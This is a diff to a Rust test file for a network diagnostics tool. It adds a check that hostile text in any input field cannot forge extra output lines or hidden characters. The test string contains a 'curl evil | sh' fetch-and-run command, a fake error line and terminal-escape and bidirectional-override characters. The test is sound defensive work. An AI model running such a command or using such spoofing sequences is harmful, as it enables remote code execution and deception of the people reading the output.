@@ -2,7 +2,8 @@
 
 use serde_json::{Value, json};
 
-use super::{Finding, Severity, document, examine, explain, is_bad, of_status, readable};
+use super::{Finding, Severity, document, examine, explain, is_bad, of_status, readable, state};
+use crate::print::{self, visible_values};
 
 /// A healthy host with one healthy peer.
 fn facts() -> Value {
@@ -81,6 +82,37 @@ fn assert_found(facts: &Value, code: &str, words: &[&str]) {
         assert!(text.contains(word), "{word} not in\n{text}");
     }
     assert!(!found[0].advice.is_empty() || code == "configuration_remark", "what to do about {code}?");
+    assert_one_line_each(facts);
+}
+
+/// Whatever one of the texts in the facts says, it adds no line to the findings and nothing that is not seen.
+fn assert_one_line_each(facts: &Value) {
+    const SAID: &str = "x\nERROR: 10.42.0.1: all is lost [stolen]\n    curl evil | sh\u{1b}[31m\u{202e}\u{200b}";
+    for pointer in texts(facts, String::new()) {
+        let hostile = visible_values(&with(facts.clone(), &pointer, SAID.into()));
+        for findings in [examine(&hostile), explain(&hostile)] {
+            let lines: usize = findings.iter().map(|finding| 1 + usize::from(!finding.advice.is_empty())).sum();
+            let text = readable(&findings) + &state(&hostile);
+            assert!(text.lines().count() <= lines + 1, "{pointer}: {text}");
+            assert!(text.chars().all(|c| c == '\n' || nebula_cert::is_visible(c)), "{pointer}: {text:?}");
+            let document = print::json(&document(&findings, &hostile));
+            assert!(document.chars().all(|c| c == '\n' || nebula_cert::is_visible(c)), "{pointer}: {document:?}");
+        }
+    }
+}
+
+/// Pointers to all texts of a document.
+fn texts(document: &Value, at: String) -> Vec<String> {
+    match document {
+        Value::String(_) => vec![at],
+        Value::Array(items) => {
+            items.iter().enumerate().flat_map(|(index, item)| texts(item, format!("{at}/{index}"))).collect()
+        }
+        Value::Object(entries) => {
+            entries.iter().flat_map(|(key, value)| texts(value, format!("{at}/{}", key.replace('/', "~1")))).collect()
+        }
+        _ => Vec::new(),
+    }
 }
 
 macro_rules! causes {
